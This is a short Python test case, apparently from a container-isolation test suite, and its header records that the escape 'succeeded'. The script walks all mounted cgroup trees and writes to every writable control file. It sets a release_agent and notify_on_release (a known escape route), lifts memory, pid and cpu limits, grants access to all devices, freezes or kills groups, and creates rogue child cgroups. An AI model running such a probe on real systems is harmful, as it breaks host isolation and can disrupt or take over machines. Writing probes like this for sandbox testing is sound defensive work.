#: about = "raises its own limits, leaves its cgroup, and asks the kernel to run a program of its own when one is empty"
#: outcome = "succeeded"
#: stdout = ["tried"]
import os
tried = 0
NAMES = {"release_agent": "/tmp/x", "notify_on_release": "1", "cgroup.procs": "0", "tasks": "0", "memory.limit_in_bytes": "-1", "memory.memsw.limit_in_bytes": "-1",
         "memory.max": "max", "pids.max": "max", "memory.swap.max": "max", "devices.allow": "a *:* rwm", "cgroup.kill": "0", "cgroup.freeze": "1", "cpu.max": "max",
         "cpuset.cpus": "0-127", "cgroup.subtree_control": "-memory", "cgroup.type": "threaded"}
roots = [line.split()[1] for line in open("/proc/self/mounts") if line.split()[2].startswith("cgroup")] + ["/sys/fs/cgroup"]
for root in roots:
    for folder, folders, files in os.walk(root):
        if folder.count("/") > 8 or tried > 5000:
            folders.clear()
        for name in files:
            tried += 1
            try:
                file = os.open(os.path.join(folder, name), os.O_WRONLY)
                print("REACHED", os.path.join(folder, name))
                os.write(file, NAMES.get(name, "0").encode())
            except OSError:
                pass
        tried += 1
        try:
            os.mkdir(os.path.join(folder, "evil"))
            print("REACHED a cgroup below", folder)
        except OSError:
            pass
print("tried", tried)
